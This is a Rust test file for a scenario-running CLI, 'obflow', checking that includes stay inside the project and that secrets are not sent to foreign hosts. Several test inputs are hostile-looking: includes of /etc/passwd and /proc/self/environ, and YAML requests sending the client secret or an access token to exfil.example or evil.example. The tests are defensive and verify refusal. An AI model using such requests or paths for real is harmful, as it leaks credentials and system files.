//! A scenario names files only inside the project: `include` resolves there, reads only
//! regular YAML files, and a refused file is never quoted; discovery passes over FIFOs and
//! links that lead out; includes cannot multiply without bound.

use crate::support::Project;

const CANARY: &str = "canary-secret-4f1b9c2e";

/// `obflow check` and `obflow run` of `file` in `project`, with a secret in the
/// environment; both must refuse the file (exit 2) and show neither the canary nor
/// anything of what they refused.
fn refused(project: &Project, file: &str, needle: &str) {
    for command in ["check", "run", "doc"] {
        let out = project.obflow_env(&[command, file], &[("OBFLOW_CLIENT_SECRET", CANARY)]);
        assert_eq!(out.code, 2, "{command}: {}{}", out.stdout, out.stderr);
        let all = format!("{}{}", out.stdout, out.stderr);
        assert!(all.contains(needle), "{command}: {all}");
        assert!(
            !all.contains(CANARY),
            "{command} leaked the environment: {all}"
        );
        assert!(
            !all.contains("root:x:0:0"),
            "{command} quoted /etc/passwd: {all}"
        );
    }
}

fn including(target: &str) -> String {
    format!("name: includes\nsteps:\n  - include: {target}\n")
}

#[test]
fn an_include_outside_the_project_is_refused_unread() {
    let dir = tempfile::tempdir().unwrap();
    let project = Project::new();
    std::fs::write(
        dir.path().join("outside.yaml"),
        format!("steps: [{CANARY}]\n"),
    )
    .unwrap();
    let outside = dir.path().join("outside.yaml");
    for target in [
        "/proc/self/environ".to_owned(),
        "/etc/passwd".to_owned(),
        "/dev/zero".to_owned(),
        outside.display().to_string(),
        "../../../../../../etc/passwd".to_owned(),
    ] {
        project.write("s.yaml", &including(&target));
        let needle = if target.ends_with(".yaml") {
            "does not exist inside the project folder"
        } else {
            "is not a YAML flow file"
        };
        refused(&project, "s.yaml", needle);
    }
}

#[cfg(unix)]
#[test]
fn a_link_out_of_the_project_or_a_fifo_is_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("outside.yaml"),
        format!("steps: [{CANARY}]\n"),
    )
    .unwrap();
    let project = Project::new();
    std::os::unix::fs::symlink(
        dir.path().join("outside.yaml"),
        project.path().join("_link.yaml"),
    )
    .unwrap();
    project.write("s.yaml", &including("_link.yaml"));
    refused(
        &project,
        "s.yaml",
        "does not exist inside the project folder",
    );

    // A FIFO inside the project is refused as an include, and passed over by discovery
    // with a warning, without blocking.
    let fifo = project.path().join("_fifo.yaml");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    project.write("s.yaml", &including("_fifo.yaml"));
    refused(&project, "s.yaml", "is not a regular file (a FIFO)");
    std::fs::rename(&fifo, project.path().join("pipe.yaml")).unwrap();
    project.write("s.yaml", "name: fine\nsteps:\n  - wait: 1ms\n");
    let out = project.obflow(&["check", "."]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("warning: skipped"), "{}", out.stderr);
    assert!(out.stderr.contains("pipe.yaml"), "{}", out.stderr);
}

#[test]
fn an_include_inside_the_project_still_works_from_a_subfolder() {
    let project = Project::new();
    project.write("flows/_wait.yaml", "steps:\n  - wait: 1ms\n");
    project.write("suite/a.yaml", &including("../flows/_wait.yaml"));
    project.write("obflow.yaml", "targets: {}\n");
    let out = project.obflow(&["check", "suite"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    // Without obflow.yaml, the project is the folder given: `flows/` lies outside it.
    std::fs::remove_file(project.path().join("obflow.yaml")).unwrap();
    let out = project.obflow(&["check", "suite"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stderr
            .contains("does not exist inside the project folder"),
        "{}",
        out.stderr
    );
}

#[test]
fn an_include_tree_cannot_multiply_without_bound() {
    let project = Project::new();
    // Ten includes a level, seven levels: 10^7 steps if nothing stopped it.
    let wide = |next: &str| {
        let mut text = String::from("steps:\n");
        for _ in 0..10 {
            text.push_str(&format!("  - include: {next}\n"));
        }
        text
    };
    for level in 0..9 {
        let next = format!("_l{}.yaml", level + 1);
        project.write(&format!("_l{level}.yaml"), &wide(&next));
    }
    project.write("_l7.yaml", "steps:\n  - wait: 1ms\n");
    project.write("s.yaml", &including("_l0.yaml"));
    let out = project.obflow(&["check", "s.yaml"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    let said = out.stderr.matches("more than 1000 steps").count();
    assert_eq!(said, 1, "said once: {}", out.stderr);

    // Nine levels: deeper than includes may nest; said a bounded number of times.
    project.write("_l7.yaml", &wide("_l8.yaml"));
    project.write("_l8.yaml", "steps:\n  - wait: 1ms\n");
    let out = project.obflow(&["check", "s.yaml"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    let said = out.stderr.matches("includes nest more than 8 deep").count();
    assert!((1..=100).contains(&said), "{said} times: {}", out.stderr);
}

#[test]
fn a_file_that_is_not_utf8_is_located_at_its_first_bad_byte() {
    let project = Project::new();
    std::fs::write(
        project.path().join("bad.yaml"),
        b"name: x\nsteps:\n  - wait: \xff1ms\n",
    )
    .unwrap();
    let out = project.obflow(&["check", "bad.yaml"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("is not UTF-8"), "{}", out.stderr);
    assert!(out.stderr.contains("bad.yaml:3:11"), "{}", out.stderr);
}

#[test]
fn an_include_cycle_is_refused() {
    let project = Project::new();
    // The scenario includes itself, and a flow includes itself by another spelling.
    project.write("s.yaml", &including("./s.yaml"));
    let out = project.obflow(&["check", "s.yaml"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("includes itself"), "{}", out.stderr);
    project.write(
        "_a.yaml",
        "steps:\n  - include: ../{dir}/_a.yaml\n"
            .replace(
                "{dir}",
                &project.path().file_name().unwrap().to_string_lossy(),
            )
            .as_str(),
    );
    project.write("s.yaml", &including("_a.yaml"));
    let out = project.obflow(&["check", "s.yaml"]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("includes itself"), "{}", out.stderr);
}

#[test]
fn a_target_without_the_mock_skips_what_only_the_mock_can_run_and_runs_the_rest() {
    let server = crate::support::TestServer::start();
    let project = Project::new();
    project.write(
        "obflow.yaml",
        &format!(
            "targets:\n  staging:\n    auth_url: {}\n    client_id: id\n    client_secret: staging-secret-value\n",
            server.base
        ),
    );
    project.write(
        "a_expiry.yaml",
        "name: tokens expire\nsteps:\n  - wait: 2h\n",
    );
    project.write(
        "b_consent.yaml",
        "name: consent\nsteps:\n  - auth_link: {}\n  - await_code: {}\n",
    );
    project.write(
        "c_admin.yaml",
        "name: reset\nsteps:\n  - request: { url: \"{{ target.auth_url }}/__mock/reset\" }\n",
    );
    project.write(
        "d_plain.yaml",
        "name: plain\nsteps:\n  - request: { url: \"{{ target.auth_url }}/json\" }\n    expect: { status: 200 }\n",
    );
    let out = project.obflow(&[
        "run",
        ".",
        "--target",
        "staging",
        "--report-json",
        "report.json",
        "--report-junit",
        "junit.xml",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("1 passed, 0 failed, 3 skipped"),
        "{}",
        out.stdout
    );
    for (reason, at) in [
        ("needs the mock's virtual clock", "a_expiry.yaml:3:5"),
        ("needs obflow's mock dialog", "b_consent.yaml:4:5"),
        ("needs the mock's admin routes", "c_admin.yaml:3:5"),
    ] {
        let line = out
            .stdout
            .lines()
            .find(|l| l.contains(reason))
            .unwrap_or_else(|| panic!("no `{reason}` in:\n{}", out.stdout));
        assert!(line.contains(at), "{line}");
    }
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(project.path().join("report.json")).unwrap())
            .unwrap();
    let reasons: Vec<&str> = json["scenarios"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["skip_reason"].as_str())
        .collect();
    assert_eq!(reasons, ["target_lacks"; 3]);
    let junit = std::fs::read_to_string(project.path().join("junit.xml")).unwrap();
    assert_eq!(
        junit
            .matches("<skipped message=\"not run on target `staging`")
            .count(),
        3,
        "{junit}"
    );

    // `--await listen` makes the consent a person's: it is no longer skipped for the dialog.
    let out = project.obflow(&[
        "run",
        "b_consent.yaml",
        "--target",
        "staging",
        "--await",
        "listen",
        "--dry-run",
    ]);
    assert!(
        !out.stdout.contains("needs obflow's mock dialog"),
        "{}",
        out.stdout
    );
}

const CREDENTIALS: [(&str, &str); 2] = [
    ("OBFLOW_CLIENT_ID", "ci-client"),
    ("OBFLOW_CLIENT_SECRET", "ci-secret-8f2a61d0"),
];

/// A scenario from a pull request cannot send a secret off the machine: a request that
/// carries one (the environment's client secret here, in any encoding) to a host that is
/// neither the target's TrueLayer environment nor loopback is refused before it is sent.
#[test]
fn a_secret_is_never_sent_to_a_host_that_is_not_the_target() {
    let project = Project::new();
    for (file, url) in [
        (
            "a_query.yaml",
            "http://exfil.example/?s={{ env.OBFLOW_CLIENT_SECRET }}",
        ),
        (
            "b_base64.yaml",
            "http://exfil.example/{{ env.OBFLOW_CLIENT_SECRET | b64encode }}",
        ),
    ] {
        project.write(
            file,
            &format!("name: {file}\nsteps:\n  - request: {{ url: \"{url}\" }}\n"),
        );
    }
    project.write(
        "c_header.yaml",
        "name: header\nsteps:\n  - request:\n      url: https://exfil.example/\n      headers: { x-key: \"{{ env.OBFLOW_CLIENT_SECRET }}\" }\n",
    );
    project.write(
        "d_body.yaml",
        "name: body\nsteps:\n  - request:\n      method: POST\n      url: https://exfil.example/\n      json: { stolen: [\"{{ env.OBFLOW_CLIENT_SECRET }}\"] }\n",
    );
    let out = project.obflow_env(&["run", ".", "--target", "sandbox"], &CREDENTIALS);
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("0 passed, 4 failed"), "{}", out.stdout);
    for at in [
        "a_query.yaml:3:16",
        "b_base64.yaml:3:16",
        "c_header.yaml:4:7",
        "d_body.yaml:4:7",
    ] {
        let refused = out.stdout.split("FAIL  ").any(|block| {
            block.contains(at)
                && block.contains("request refused: it carries a secret, and `exfil.example` is neither this run's target (`sandbox`) nor this machine")
        });
        assert!(refused, "{at}: {}", out.stdout);
    }
    assert!(
        out.stdout.contains("pass --allow-host exfil.example"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("ci-secret-8f2a61d0"), "{}", out.stdout);
}

/// A token the target issued is a secret learnt from the wire: it goes back to the target
/// (the embedded mock, on this machine), never to another host.
#[test]
fn a_token_the_target_issued_is_not_sent_elsewhere() {
    let project = Project::new();
    project.write(
        "token.yaml",
        "name: token\nsteps:\n  - auth_link: {}\n  - await_code: {}\n  - exchange: {}\n  - accounts: {}\n  - request:\n      url: https://exfil.example/\n      headers: { authorization: \"Bearer {{ session.access_token }}\" }\n",
    );
    let out = project.obflow(&["run", "token.yaml"]);
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("request refused: it carries a secret, and `exfil.example` is neither this run's target (`mock`) nor this machine"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("token.yaml:8:7"), "{}", out.stdout);
}

/// A target the project file declares receives the environment's credentials and every
/// secret: one that is neither TrueLayer's nor this machine's is trusted only when the
/// command line says so, and redefining `sandbox` in a pull request moves no credentials.
#[test]
fn a_project_target_off_this_machine_and_off_truelayer_needs_allow_host() {
    let project = Project::new();
    project.write(
        "obflow.yaml",
        "targets:\n  sandbox:\n    auth_url: https://evil.example/\n",
    );
    project.write("a.yaml", "name: a\nsteps:\n  - exchange: { code: abc }\n");
    let out = project.obflow_env(&["run", "a.yaml", "--target", "sandbox"], &CREDENTIALS);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains(
            "target `sandbox` is at `evil.example`, which is neither TrueLayer's nor this machine"
        ),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("pass --allow-host evil.example"),
        "{}",
        out.stderr
    );
    // Allowed from the command line, it is used (a dry run: nothing is sent).
    let out = project.obflow_env(
        &[
            "run",
            "a.yaml",
            "--target",
            "sandbox",
            "--allow-host",
            "evil.example",
            "--dry-run",
        ],
        &CREDENTIALS,
    );
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("https://evil.example/connect/token"),
        "{}",
        out.stdout
    );
}
